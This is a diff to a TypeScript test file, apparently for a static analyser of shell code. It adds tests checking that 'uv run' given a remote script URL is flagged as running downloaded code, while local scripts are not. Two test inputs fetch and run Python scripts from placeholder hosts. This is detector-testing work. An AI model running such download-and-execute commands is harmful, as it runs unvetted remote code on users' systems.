@@ -231,3 +231,24 @@ describe('launches', () => {
     expect(ofKind(r, 'launch')[0]).toMatchObject({ what: 'mcp-server', program: 'some-tool --stdio' });
   });
 });
+
+describe('uv run of a script address', () => {
+  const runs = async (code: string) =>
+    ofKind(await factsOf('shell', code), 'execute')
+      .filter((e) => e.code.taints.includes('download'))
+      .map((e) => `${e.via} ${e.endpoint?.host ?? ''}`);
+
+  it('downloads the script and runs it with Python', async () => {
+    expect(await runs('uv run https://tools.mirror-hub.test/sync.py --all\n')).toEqual([
+      'uv run tools.mirror-hub.test',
+    ]);
+    expect(await runs('uv run --with requests --python 3.12 http://203.0.113.5/a.py\n')).toEqual([
+      'uv run 203.0.113.5',
+    ]);
+  });
+
+  it('runs nothing downloaded for a local script or a package command', async () => {
+    expect(await runs('uv run scripts/sync.py\n')).toEqual([]);
+    expect(await runs('uv run --with httpx pytest -q\n')).toEqual([]);
+  });
+});
